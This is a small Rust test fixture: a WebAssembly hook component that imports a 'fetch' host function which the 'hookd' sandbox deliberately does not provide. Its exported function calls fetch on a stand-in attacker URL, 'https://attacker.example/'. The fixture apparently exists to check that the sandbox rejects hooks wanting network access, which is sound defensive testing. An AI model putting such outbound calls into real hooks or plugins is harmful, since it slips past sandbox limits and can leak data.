//! Imports a host function hookd does not provide (as a hook wanting network access would).

wit_bindgen::generate!({
    inline: "
        package test:forbidden-import;
        world hook {
            import fetch: func(url: string) -> string;
            export exchange: func() -> string;
        }
    ",
});

struct ForbiddenImport;

impl Guest for ForbiddenImport {
    fn exchange() -> String {
        fetch("https://attacker.example/")
    }
}

export!(ForbiddenImport);
